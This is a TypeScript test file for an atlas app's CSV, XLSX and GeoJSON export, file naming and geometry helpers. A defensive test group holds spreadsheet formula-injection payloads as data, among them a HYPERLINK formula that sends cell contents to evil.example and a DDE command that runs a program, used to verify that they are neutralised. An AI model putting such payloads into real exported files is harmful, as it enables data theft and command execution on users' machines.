import readXlsx from 'read-excel-file/universal';
import { describe, expect, it } from 'vitest';
import { loadRealData } from '../../../test/load-data.ts';
import type { Item } from '../data/validate.ts';
import { EMPTY_FILTERS } from '../filters.ts';
import { isNeutralised, neutralise } from './cells.ts';
import { codeField, tableToCsv, toGeoJson } from './csv.ts';
import { exportFileName, handoutFileName } from './file-name.ts';
import { representativePoint } from './representative-point.ts';
import { exportTable } from './table.ts';
import { tableToXlsx } from './xlsx.ts';

const { atlas } = loadRealData();
const documents = atlas.data.documents;
const betsukai = atlas.data.items.filter((i) => i.properties.municipalities.includes('01691'));

/** Items named like the probe's hostile CSV: each name would run as a formula in Excel. */
const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click me")', "+cmd|' /C calc'!A0", '-1+1', '@SUM(A1)', '\t=1+2', '\r=1+2'];
function hostileItems(): Item[] {
  const base = atlas.data.items.find((i) => i.geometry?.type === 'Point')!;
  return HOSTILE.map((name, n) => ({ ...base, properties: { ...base.properties, id: `x-${n}`, name_ja: name } }));
}

/** A minimal RFC 4180 reader for checking what was written. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let f = '';
  let q = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (q) {
      if (c === '"' && text[i + 1] === '"') {
        f += '"';
        i++;
      } else if (c === '"') q = false;
      else f += c;
    } else if (c === '"') q = true;
    else if (c === ',') {
      row.push(f);
      f = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(f);
      rows.push(row);
      row = [];
      f = '';
      i++;
    } else f += c;
  }
  return rows;
}

describe('formula neutralisation (OWASP)', () => {
  it('prefixes = + - @ TAB CR with a quote and leaves other text alone', () => {
    for (const s of HOSTILE) expect(neutralise(s)).toBe(`'${s}`);
    expect(neutralise('別海町')).toBe('別海町');
    expect(neutralise('1-(1)')).toBe('1-(1)');
    expect(isNeutralised(neutralise('=1'))).toBe(true);
  });

  it('neutralises every text cell of the CSV, keeping the text visible after the quote', () => {
    const csv = tableToCsv(exportTable(atlas, hostileItems(), 'ja', documents));
    const rows = readCsv(csv.slice(1));
    const names = rows.slice(1).map((r) => r[1]);
    expect(names).toEqual(HOSTILE.map((s) => `'${s}`));
    // The only formula left is the app's own ="0…" around a code of digits (see codeField).
    const code = rows[0]!.indexOf('市町村コード');
    for (const r of rows)
      for (const [i, cell] of r.entries()) {
        if (i === code && /^=0\d+$/.test(cell)) continue;
        expect(cell === '' || !/^[=+\-@\t\r]/.test(cell)).toBe(true);
      }
  });

  it('neutralises the XLSX text cells too', async () => {
    const blob = await tableToXlsx(exportTable(atlas, hostileItems(), 'ja', documents), 'x');
    const [sheet] = await readXlsx(await blob.arrayBuffer());
    const names = sheet!.data.slice(1).map((r) => r[1]);
    expect(names).toEqual(HOSTILE.map((s) => `'${s}`));
  });
});

describe('export table', () => {
  it('writes CSV with a BOM, CRLF rows, codes with their leading zero, document titles as sources', () => {
    const csv = tableToCsv(exportTable(atlas, betsukai, 'ja', documents));
    expect(csv.startsWith('\uFEFFID,名称,分野,')).toBe(true);
    expect(csv).toContain(',="01691",');
    const rows = readCsv(csv.slice(1));
    expect(rows).toHaveLength(betsukai.length + 1);
    const head = rows[0]!;
    const col = (name: string) => head.indexOf(name);
    for (const r of rows.slice(1)) {
      // A lone code is written as ="01691" (read back here as =01691) so Excel keeps it as text.
      expect(r[col('市町村コード')]).toMatch(/^=01691$|(^| )01691( |$)/);
      expect(r[col('出典')]).toMatch(/^『/);
      expect(r[col('出典')]).not.toMatch(/\.txt/);
    }
  });

  it('writes a code as ="…" only when it is digits with a leading zero, never user text', () => {
    expect(codeField('01691')).toBe('="01691"');
    expect(codeField('01691 01692')).toBe('01691 01692');
    expect(codeField('=1+2')).toBe("'=1+2");
    expect(codeField(null)).toBe('');
  });

  it('gives every located item lon/lat and says what kind of point it is', () => {
    const table = exportTable(atlas, atlas.data.items, 'en', documents);
    const lon = table.head.indexOf('Longitude');
    const kind = table.head.indexOf('Coordinates are');
    atlas.data.items.forEach((item, n) => {
      const r = table.rows[n]!;
      if (item.geometry) {
        expect(typeof r[lon]).toBe('number');
        expect(r[kind]).not.toBe('');
      } else expect(r[lon]).toBeNull();
    });
    const kinds = new Set(table.rows.map((r) => r[kind]));
    expect(kinds).toContain('halfway along the line');
    expect(kinds).toContain('a point inside the area');
  });

  it('writes project numbers in one form (ASCII, as printed) in both languages', () => {
    const withProjects = atlas.data.items.filter((i) => i.properties.projects.length > 0).slice(0, 20);
    const ja = exportTable(atlas, withProjects, 'ja', documents);
    const en = exportTable(atlas, withProjects, 'en', documents);
    const at = ja.head.indexOf('プロジェクト番号');
    for (let n = 0; n < withProjects.length; n++) {
      expect(ja.rows[n]![at]).toMatch(/^\d+-\(\d+\)( \/ \d+-\(\d+\))*$/);
      expect(ja.rows[n]![at]).toBe(en.rows[n]![at]);
    }
  });

  it('reads back from XLSX with typed cells: codes as text, coordinates as numbers', async () => {
    const blob = await tableToXlsx(exportTable(atlas, betsukai, 'ja', documents), '別海町');
    const [sheet] = await readXlsx(await blob.arrayBuffer());
    const [head, ...rows] = sheet!.data;
    expect(sheet!.sheet).toBe('別海町');
    expect(rows).toHaveLength(betsukai.length);
    const code = head!.indexOf('市町村コード');
    const lon = head!.indexOf('経度');
    for (const r of rows) {
      expect(typeof r[code]).toBe('string');
      expect(r[code]).toMatch(/01691/);
      expect(typeof r[lon]).toBe('number');
    }
    expect(rows.map((r) => r[0])).toEqual(betsukai.map((i) => i.properties.id));
  });

  it('keeps full geometry in GeoJSON', () => {
    const g = toGeoJson(atlas.data.items);
    const line = atlas.data.items.find((i) => i.geometry?.type === 'LineString')!;
    expect(g.features.find((f) => f.properties?.['id'] === line.properties.id)?.geometry).toEqual(line.geometry);
  });
});

describe('representative point', () => {
  it('is inside a U-shaped polygon whose centroid is outside', () => {
    const u = {
      type: 'Polygon' as const,
      coordinates: [
        [
          [0, 0],
          [3, 0],
          [3, 3],
          [2, 3],
          [2, 1],
          [1, 1],
          [1, 3],
          [0, 3],
          [0, 0],
        ],
      ],
    };
    const p = representativePoint(u)!;
    expect(p.kind).toBe('polygon-inside');
    const inLeftArm = p.lon > 0 && p.lon < 1 && p.lat > 0 && p.lat < 3;
    const inRightArm = p.lon > 2 && p.lon < 3 && p.lat > 0 && p.lat < 3;
    const inBase = p.lat > 0 && p.lat < 1 && p.lon > 0 && p.lon < 3;
    expect(inLeftArm || inRightArm || inBase).toBe(true);
  });
  it('is halfway along a line', () => {
    expect(
      representativePoint({
        type: 'LineString',
        coordinates: [
          [0, 0],
          [0, 1],
          [0, 3],
        ],
      }),
    ).toEqual({ lon: 0, lat: 1.5, kind: 'line-middle' });
  });
});

describe('file name', () => {
  const day = new Date(2026, 11, 4, 10);
  it('names the scope and the day', () => {
    expect(exportFileName(atlas, { ...EMPTY_FILTERS, areas: ['01691'] }, 'ja', day, 'xlsx')).toBe('senkon-atlas_別海町_2026-12-04.xlsx');
    expect(exportFileName(atlas, EMPTY_FILTERS, 'ja', day, 'csv')).toBe('senkon-atlas_すべて_2026-12-04.csv');
    expect(exportFileName(atlas, EMPTY_FILTERS, 'en', day, 'csv')).toBe('senkon-atlas_all_2026-12-04.csv');
    expect(exportFileName(atlas, { ...EMPTY_FILTERS, categories: ['road'] }, 'ja', day, 'csv')).toBe(
      'senkon-atlas_絞り込み_2026-12-04.csv',
    );
    const p = atlas.data.projects[0]!;
    expect(exportFileName(atlas, { ...EMPTY_FILTERS, projects: [p.id] }, 'ja', day, 'csv')).toBe(
      `senkon-atlas_${p.numbers[0]}_2026-12-04.csv`,
    );
  });
  it('names a handout by its filter, else by what is selected', () => {
    const p = atlas.data.projects[0]!;
    expect(handoutFileName(atlas, EMPTY_FILTERS, { kind: 'project', id: p.id }, 'ja', day)).toBe(
      `senkon-atlas_${p.numbers[0]}_2026-12-04.png`,
    );
    expect(handoutFileName(atlas, EMPTY_FILTERS, { kind: 'item', id: 'fp-rausu' }, 'ja', day)).toBe('senkon-atlas_羅臼漁港_2026-12-04.png');
    expect(handoutFileName(atlas, EMPTY_FILTERS, { kind: 'item', id: 'fp-rausu' }, 'en', day)).toBe(
      'senkon-atlas_Rausu-Fishing-Port_2026-12-04.png',
    );
    expect(handoutFileName(atlas, { ...EMPTY_FILTERS, areas: ['01691'] }, { kind: 'item', id: 'fp-rausu' }, 'ja', day)).toBe(
      'senkon-atlas_別海町_2026-12-04.png',
    );
    expect(handoutFileName(atlas, EMPTY_FILTERS, null, 'ja', day)).toBe('senkon-atlas_すべて_2026-12-04.png');
  });
});
